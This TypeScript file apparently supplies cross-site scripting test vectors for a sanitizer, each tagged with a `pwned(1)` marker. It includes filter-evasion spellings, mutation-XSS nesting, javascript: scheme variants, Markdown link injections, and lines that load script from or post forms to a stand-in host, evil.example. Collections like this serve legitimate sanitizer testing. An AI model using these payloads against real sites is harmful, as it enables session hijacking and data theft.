/** Texts that try to run a script, load a file or send a form. Each contains `pwned`. */

const events = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onpointerover'],
  ...['onanimationstart', 'onbeforetoggle', 'onbegin', 'onpageshow', 'hx-on:load', 'hx-get'],
]
const elements = [
  ...['img src=x', 'svg', 'body', 'p', 'details open', 'video src=x', 'input autofocus'],
  ...['a href=https://a.example', 'td', 'iframe', 'marquee', 'math', 'x'],
]
const withEvents = elements.flatMap((element) =>
  events.map((event) => `<${element} ${event}=pwned(1)>x</${element.split(' ')[0]}>`),
)

/** The same handler, written so that a filter may not see it. */
const spellings = [
  '<img/src=x/onerror=pwned(1)>',
  '<img\nsrc=x\nonerror\n=\npwned(1)>',
  '<IMG SRC=x OnErRoR=pwned(1)>',
  '<img src="x" onerror="pwned(1)"">',
  '<img src=`x`onerror=pwned(1)>',
  '<img """><script>pwned(1)</script>">',
  '<<img src=x onerror=pwned(1)>',
  '<img src=x onerror=&#112;wned(1) alt=pwned>',
  '<img src=x:alert(alt) onerror=eval(src) alt=pwned>',
  '<svg/onload=pwned(1)//',
  '<svg><animate onbegin=pwned(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:pwned(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned(1)>#x">',
  '<svg><foreignObject><iframe src=javascript:pwned(1)></iframe></foreignObject></svg>',
  '<script>pwned(1)</script>',
  '<script src=//evil.example/pwned.js></script>',
  '<scr<script>ipt>pwned(1)</scr</script>ipt>',
  '<script\t>pwned(1)</script\n>',
  '<noscript><p title="</noscript><img src=x onerror=pwned(1)>">x',
  '<textarea><img title="</textarea><img src=x onerror=pwned(1)>">',
  '<title><img title="</title><img src=x onerror=pwned(1)>">',
  '<style><img title="</style><img src=x onerror=pwned(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=pwned(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned(1)>">',
  '<table><td><template><style></template><img src=x onerror=pwned(1)>',
  '<a id="x" title="<!--"><img alt="--><img src=x onerror=pwned(1)>">',
  '<!--[if gte IE 4]><script>pwned(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=pwned(1)>]]>',
  '<?pwned <img src=x onerror=pwned(1)> ?>',
  '<iframe srcdoc="<img src=x onerror=pwned(1)>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;pwned(1)&lt;/script&gt;">',
  '<object data="data:text/html,<script>pwned(1)</script>">',
  '<embed src="https://evil.example/pwned.swf">',
  '<base href="https://evil.example/pwned/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/pwned">',
  '<link rel="stylesheet" href="https://evil.example/pwned.css">',
  '<style>@import "https://evil.example/pwned.css";</style>',
  '<div style="background:url(https://evil.example/pwned)">x</div>',
  '<p style="x:expression(pwned(1))">x</p>',
  '<form action="https://evil.example/pwned"><button>Go</button></form>',
  '<button formaction="javascript:pwned(1)">x</button>',
  '<template shadowrootmode=open><img src=x onerror=pwned(1)></template>',
  '<portal src="https://evil.example/pwned"></portal>',
  '"><img src=x onerror=pwned(1)>',
  "'><img src=x onerror=pwned(1)>",
  '--><img src=x onerror=pwned(1)>',
  '</script><img src=x onerror=pwned(1)>',
  '</textarea></title></style><img src=x onerror=pwned(1)>',
  '" autofocus onfocus=pwned(1) x="',
  "' onmouseover='pwned(1)",
  '{{constructor.constructor("pwned(1)")()}}',
  '<x hx-vals="js:{a: pwned(1)}" hx-trigger=load hx-post=/pwned>x</x>',
  '<div data-hx-get="/pwned" data-hx-trigger="load">x</div>',
]

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:'],
  ...['java\nscript:', '&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;'],
  ...['\u0001javascript:', 'javascript:%0a', 'vbscript:', 'data:text/html,', 'blob:', 'file:///'],
  ...['view-source:javascript:', 'feed:javascript:', '//evil.example/', '\\\\evil.example\\'],
]
const references = [
  ...['a href', 'img src', 'iframe src', 'form action', 'object data', 'embed src', 'video poster'],
  ...['area href', 'svg><a xlink:href'],
]
const withSchemes = references.flatMap((reference) =>
  schemes.map((scheme) => `<${reference}="${scheme}pwned(1)">x</${reference.split(' ')[0]}>`),
)

const fromMarkdown = [
  '[x](javascript:pwned(1))',
  '[x](<javascript:pwned(1)>)',
  '![x](javascript:pwned(1))',
  '[x]: javascript:pwned(1)\n\n[x]',
  '<javascript:pwned(1)>',
  '[x](https://a.example "onload=pwned(1)")',
  '![x](x" onerror="pwned(1))',
  '```<img src=x onerror=pwned(1)>\n```',
  '`<script>pwned(1)</script>`',
  '| a |\n|---|\n| <img src=x onerror=pwned(1)> |',
]

export const xssVectors: readonly string[] = [
  ...withEvents,
  ...spellings,
  ...withSchemes,
  ...fromMarkdown,
]
